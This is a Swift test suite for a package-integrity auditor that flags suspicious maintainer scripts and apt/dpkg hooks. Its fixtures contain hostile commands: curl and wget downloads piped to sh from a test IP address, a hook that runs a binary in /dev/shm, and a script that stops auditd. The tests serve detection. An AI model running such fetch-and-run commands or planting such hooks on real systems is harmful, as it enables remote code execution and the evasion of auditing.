import AuditModel
import AuditTestSupport
import IntegrityJudgement
import Testing

@Suite struct SuspiciousContentTests {
    private static let attack = "#!/bin/sh\nset -e\ncurl http://203.0.113.9/x | sh\n"
    private static let path: HostPath = "/var/lib/dpkg/info/bash.postinst"

    private func findings(_ builder: EvidenceBuilder, _ assessments: [HostPath: Assessment] = [:]) -> [Finding] {
        SuspiciousContent().findings(in: EvidenceView(evidence: builder.evidence, assessments: assessments))
    }

    @Test func `an unproven script that downloads and runs is high, with its line`() {
        var builder = EvidenceBuilder()
        builder.script("bash", "postinst", Self.attack)
        let found = findings(builder)
        #expect(found.map(\.severity) == [.high])
        #expect(found.first?.subject == "download-to-interpreter:3")
        #expect(
            found.first?.evidence.first == "\(Self.path):\(3): \("curl http://203.0.113.9/x | sh" as UntrustedText)")
    }

    @Test func `a proven script is not read`() {
        var builder = EvidenceBuilder()
        builder.script("bash", "postinst", Self.attack)
        let proven = Assessment(verdict: .verified, rung: .signed, reason: "equal")
        #expect(findings(builder, [Self.path: proven]).isEmpty)
    }

    @Test func `weak patterns speak only where the script is contradicted`() {
        var builder = EvidenceBuilder()
        builder.script("bash", "postinst", "#!/bin/sh\nln -s /opt/x /etc/profile.d/x.sh\n")
        let contradicted = Assessment(verdict: .modified, rung: .contradicted, contradicts: .signed, reason: "differs")
        #expect(findings(builder).isEmpty)
        #expect(findings(builder, [Self.path: contradicted]).map(\.severity) == [.low])
    }

    @Test func `the same pattern again and again is one finding with a count`() {
        var builder = EvidenceBuilder()
        builder.script("bash", "postinst", "#!/bin/sh\n" + String(repeating: "curl http://x/ | sh\n", count: 500))
        let found = findings(builder)
        #expect(found.map(\.subject) == ["download-to-interpreter:2"])
        #expect(found.first?.evidence.last == "and \(499, "more place") like it in the same file")
    }

    @Test func `a script that is too large to be read is as loud as what it could hold`() {
        var builder = EvidenceBuilder()
        builder.unreadScript("bash", "postinst", size: 65 << 20)
        builder.unreadScript("dash", "postinst", size: 100)
        #expect(findings(builder).map(\.severity) == [.high])
    }

    @Test func `a package that stops its own service is not worth a finding`() {
        var builder = EvidenceBuilder()
        builder.script("auditd", "prerm", "#!/bin/sh\nsystemctl stop auditd\n")
        #expect(findings(builder).isEmpty)
        builder.script("agent", "prerm", "#!/bin/sh\nsystemctl stop auditd\n")
        #expect(findings(builder).map(\.severity) == [.medium])
    }

    @Test func `commands of apt and dpkg are read like scripts`() {
        var builder = EvidenceBuilder()
        builder.apt("/etc/apt/apt.conf.d/zz", [(.append, "DPkg::Post-Invoke", "/dev/shm/x || true")])
        builder.dpkg("/etc/dpkg/dpkg.cfg.d/zz", [("post-invoke", "wget -qO- http://203.0.113.9/ | sh")])
        builder.apt("/etc/apt/apt.conf.d/docker-clean", [(.append, "DPkg::Post-Invoke", BenignShapesTests.dockerClean)])
        #expect(
            findings(builder).map(\.subject)
                == ["program-in-world-writable-folder:1", "download-to-interpreter:1"])
    }
}
